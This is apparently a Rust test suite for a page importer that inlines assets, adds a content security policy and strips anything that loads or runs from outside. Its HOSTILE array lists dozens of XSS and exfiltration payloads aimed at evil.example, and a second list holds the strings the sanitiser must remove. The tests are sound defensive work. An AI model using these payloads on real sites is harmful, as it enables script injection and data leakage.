//! Pages come in with all that they need, and nothing in them leads out (docs/pages.md).

#![allow(clippy::unwrap_used, missing_docs)]

use proptest::prelude::*;
use zolvet_page::{PageError, PageFile, offers, read, rebuild};

fn file(name: &str, text: &str) -> PageFile {
    PageFile { name: name.to_owned(), bytes: text.as_bytes().to_vec() }
}

fn page(html: &str) -> String {
    read(&[file("index.html", html)]).unwrap().html
}

#[test]
fn sheets_and_pictures_come_into_the_page() {
    let html = r#"<!doctype html><html><head><title> Free
        plots </title><link rel="stylesheet" href="css/site.css?v=3" media="screen"><link rel=preload href=css/site.css></head>
        <body><img src="img/leaf.svg" alt=leaf><img src="gone.png"><p style="background:url('img/leaf.svg')">One</p></body></html>"#;
    let files = [
        file("site/index.html", html),
        file(
            "site/css/site.css",
            "@import 'base.css' layer(base) screen;\n@namespace s url(http://names.example/svg);\n.card { background: url(../img/leaf.svg) }",
        ),
        file("site/css/base.css", "@font-face { font-family: A; src: url(a.woff2) } p { color: red }"),
        file("site/img/leaf.svg", "<svg xmlns='http://www.w3.org/2000/svg'/>"),
    ];
    let read = read(&files).unwrap();
    assert_eq!(read.title, "Free plots");
    assert_eq!(read.missing, ["a.woff2", "gone.png"]);
    assert!(read.html.contains("@layer base {\n@media screen {\n@font-face"), "{}", read.html);
    assert_eq!(read.html.matches("data:image/svg+xml;base64,").count(), 3, "{}", read.html);
    assert!(read.html.contains("<style media=\"screen\""), "{}", read.html);
    assert!(!read.html.contains("<link"), "{}", read.html);
    assert!(read.html.contains("@namespace s url(http://names.example/svg);"), "a name, which nothing loads");
}

/// The root of a site may be a folder of what was chosen; a picture that is not there is seen to be missing.
#[test]
fn the_root_of_a_site_may_be_a_folder() {
    let html = r#"<link rel=stylesheet href="/assets/site.css"><img src="/gone.png">"#;
    let read =
        read(&[file("out/index.html", html), file("out/assets/site.css", "p { color: red }")]).unwrap();
    assert!(
        read.html.contains("p { color: red }") && read.html.contains("<img src=\"data:,\""),
        "{}",
        read.html
    );
    assert_eq!(read.missing, ["/gone.png"]);
}

/// The policy is the first of a page's head, whatever its tags say before that.
#[test]
fn the_policy_comes_first() {
    let html =
        page("<html data-x='<head><link rel=preconnect href=//a.example>'><head id='>'><title>x</title>");
    let (before, after) =
        html.split_once("<meta charset=\"utf-8\"><meta http-equiv=\"Content-Security-Policy\"").unwrap();
    assert!(before.ends_with("data-zolvet-element=\"1\">") && !before.contains("<link"), "{html}");
    assert!(!after.contains("<meta"), "{html}");
    assert_eq!(rebuild(&html), html);
}

/// What could get out of a page.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
    "<noscript><link rel=preconnect href=//evil.example></noscript>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/a.png' srcset='https://evil.example/b.png 2x'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://evil.example/' ping='https://evil.example/p' target=_top>x</a>",
    "<form action='https://evil.example/'><button formaction='https://evil.example/f'>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<link rel='dns-prefetch preconnect icon manifest modulepreload' href='https://evil.example/'>",
    "<style>@import 'https://evil.example/a.css'; @import url(https://evil.example/b.css);</style>",
    "<style>p { background: url( https://evil.example/a.png ) }</style>",
    "<style>p { background: image-set('https://evil.example/a.png' 1x, \"//evil.example/b.png\" 2x) }</style>",
    "<style>p { background: -webkit-image-set(url(https://evil.example/a.png) 1x) }</style>",
    "<style>@font-face { font-family: a; src: url('//evil.example/a.woff2') format('woff2') }</style>",
    "<style>p { --a: url(//evil.example/a); cursor: url(//evil.example/c), auto }</style>",
    "<style>p { background: u\\72l(https://evil.example/a.png) }</style>",
    "<style>@\\69mport 'https://evil.example/a.css';</style>",
    "<p style='background:url(https://evil.example/a.png)'>x</p>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><image href='https://evil.example/a.png'/><use href='https://evil.example/a.svg#b'/></svg>",
    "<svg><a><set attributeName='href' to='javascript:alert(1)'/><animate attributeName='xlink:href' values='https://evil.example/'/></a></svg>",
    "<svg><rect fill='url(https://evil.example/a.svg#b)' onload='alert(1)'/></svg>",
    "<svg><style>@import 'https://evil.example/a.css'</style></svg>",
    "<svg><foreignObject><iframe src='https://evil.example/'></iframe></foreignObject></svg>",
    "<math href='javascript:alert(1)'><mi xlink:href='https://evil.example/'>x</mi></math>",
    "<iframe src='https://evil.example/' srcdoc='<script>alert(1)</script>'><link rel=preconnect href=//evil.example></iframe>",
    "<object data='https://evil.example/'></object><embed src='https://evil.example/'>",
    "<video src='https://evil.example/v.mp4' poster='https://evil.example/p.png'><source src='https://evil.example/v'><track src='//evil.example/t'></video>",
    "<picture><source srcset='https://evil.example/a.webp'><img src='https://evil.example/a.png'></picture>",
    "<body background='https://evil.example/a.png'><table background='//evil.example/b'></table>",
    "<input type=image src='https://evil.example/a.png'><input autofocus onfocus=alert(1)>",
    "<template shadowrootmode=open><img src='https://evil.example/a.png' onerror=alert(1)></template>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=https://evil.example/ onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
    "<frameset><frame src='https://evil.example/'></frameset>",
    "<img src=/api/projects><link rel=stylesheet href=/api/openapi.json>",
    "<p title='&lt;/p>&lt;script>alert(1)&lt;/script>'><style></style><title></style><script>alert(1)</script></title>",
    "<img src='data:text/html,<script>alert(1)</script>'><a href='data:text/html,x'>x</a>",
];

/// Whatever stands in a page: nothing runs, nothing is loaded, nothing leads anywhere.
#[test]
fn nothing_leads_out_of_a_page() {
    for hostile in HOSTILE {
        let html = page(&format!("<!doctype html><body>{hostile}<p>kept</p>"));
        assert!(
            html.contains("kept") || hostile.contains("plaintext") || hostile.contains("frameset"),
            "{hostile}: {html}"
        );
        let lower = html.to_ascii_lowercase();
        for out in [
            "evil.example",
            "<script",
            "javascript:",
            "onerror",
            "onload",
            "onfocus",
            "/api/",
            "text/html",
            "<base",
            "srcdoc",
            "<link",
            "refresh",
        ] {
            assert!(!lower.contains(out), "{out} in {hostile}: {html}");
        }
        assert_eq!(rebuild(&html), html, "rebuilt once more");
    }
}

#[test]
fn a_page_saved_as_one_file_comes_in() {
    let saved = "From: <Saved>\r\nSnapshot-Content-Location: https://plots.example/a/\r\nSubject: Plots\r\nMIME-Version: 1.0\r\n\
        Content-Type: multipart/related;\r\n\ttype=\"text/html\";\r\n\tboundary=\"--b--\"\r\n\r\n\r\n----b--\r\n\
        Content-Type: text/html\r\nContent-ID: <f@mhtml>\r\nContent-Transfer-Encoding: quoted-printable\r\n\
        Content-Location: https://plots.example/a/\r\n\r\n<!DOCTYPE html><html><head><link rel=3D\"stylesheet\" href=3D\"cid:s@mhtml\">=\r\n\
        </head><body><template shadowmode=3D\"open\"><p>inside</p></template><img src=3D\"../leaf.png\"></body></html>\r\n\r\n----b--\r\n\
        Content-Type: text/css\r\nContent-Transfer-Encoding: quoted-printable\r\nContent-Location: cid:s@mhtml\r\n\r\n\
        p { color: red }\r\n\r\n----b--\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n\
        Content-Location: https://plots.example/leaf.png\r\n\r\niVBORw0KGgo=\r\n\r\n----b----\r\n";
    let read = read(&[file("saved.mhtml", saved)]).unwrap();
    assert_eq!(read.missing, [""; 0], "{}", read.html);
    assert!(
        read.html.contains("p { color: red }") && read.html.contains("data:image/png;base64,iVBOR"),
        "{}",
        read.html
    );
    assert!(read.html.contains("shadowrootmode=\"open\""), "{}", read.html);
}

#[test]
fn what_is_no_page_is_refused() {
    assert_eq!(read(&[file("a.css", "p {}")]), Err(PageError::NoPage));
    assert_eq!(read(&[]), Err(PageError::NoPage));
    let many = "<i>".repeat(20_001);
    assert!(matches!(read(&[file("a.html", &many)]), Err(PageError::TooMany { .. })));
}

const PLOTS: &str = r#"<!doctype html><body><header><button class="primary">Book a plot</button></header><main class="plots">
    <section class="plot-card featured"><h3>Row 7</h3><button class="rounded px-4 py-2 bg-green">Look</button></section>
    <section class="plot-card"><h3>Row 8</h3><button class="rounded px-4 py-2 bg-green">Look</button></section>
    <section class="plot-card"><h3>Row 9</h3><button class="rounded px-4 py-2 bg-red">Leave</button></section>
    <div class="css-1x2y3z Panel_root__x7Gk2">A</div><div class="css-1x2y3z Panel_root__x7Gk2">B</div><div class="rounded">C</div>
    <p>One</p><p id="second">Two</p><p>Three</p></main>"#;

/// What is offered for the element that a selector selects first.
fn offered(of: &str) -> (String, Vec<(String, usize, bool)>) {
    let html = page(PLOTS);
    let dom = scraper::Html::parse_document(&html);
    let selector = scraper::Selector::parse(of).unwrap();
    let number = dom.select(&selector).next().unwrap().attr("data-zolvet-element").unwrap().parse().unwrap();
    let found = offers(&html, number).unwrap();
    for offer in found.alike.iter().chain([&found.this]) {
        let selector = scraper::Selector::parse(&offer.selector).unwrap();
        assert_eq!(dom.select(&selector).count(), offer.count, "{}", offer.selector);
    }
    let alike = found.alike.into_iter().map(|offer| (offer.selector, offer.count, offer.generated)).collect();
    (found.this.selector, alike)
}

#[test]
fn selectors_are_such_as_a_person_writes() {
    let (this, alike) = offered("section:nth-of-type(2)");
    assert_eq!(alike[0], (".plot-card".to_owned(), 3, false));
    assert_eq!(this, ".plots > .plot-card:nth-child(2)");
    let (this, alike) = offered(".featured");
    assert_eq!((this.as_str(), &alike[0].0), (".featured", &".featured".to_owned()));
    assert!(alike.contains(&(".plot-card".to_owned(), 3, false)), "{alike:?}");
    let (_, alike) = offered("section button");
    assert_eq!(alike[0], (".rounded.bg-green".to_owned(), 2, false), "{alike:?}");
    let (this, alike) = offered(".css-1x2y3z");
    assert_eq!(alike[0].1, 2, "{alike:?} {this}");
    assert!(alike[0].0.starts_with("[class*=\"Panel_root__\"]") && !alike[0].2, "{alike:?}");
    assert_eq!(offered("#second").0, "#second");
    assert_eq!(offered("header button").0, ".primary");
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(300) })]

    /// Whatever bytes come in, they are a page or refused, and what comes out is the same when it is rebuilt.
    #[test]
    fn any_bytes_are_a_page_or_refused(parts in prop::collection::vec(prop_oneof![
        prop::sample::select(vec![
            "<div class=a>", "</div>", "<table>", "<tr>", "<svg>", "</svg>", "<style>", "</style>", "<template>", "<math>", "<mi>", "<p>",
            "<noscript>", "</noscript>", "<select>", "<a href=x>", "<textarea>", "</textarea>", "<!--", "-->", "url(", "@import", "\"", "'", "{", "}",
            "<foreignObject>", "<title>", "</title>", "<img src=a.png>", "<plaintext>", "<frameset>", "\u{0}", "&lt;script>", "<![CDATA[", "]]>",
        ]).prop_map(str::to_owned),
        "[ -~]{0,12}",
    ], 0..24)) {
        let html = format!("<html>{}", parts.concat());
        let first = read(&[file("a.html", &html)]).unwrap().html;
        let second = rebuild(&first);
        prop_assert!(!second.to_ascii_lowercase().contains("<script"), "{}", second);
    }
}
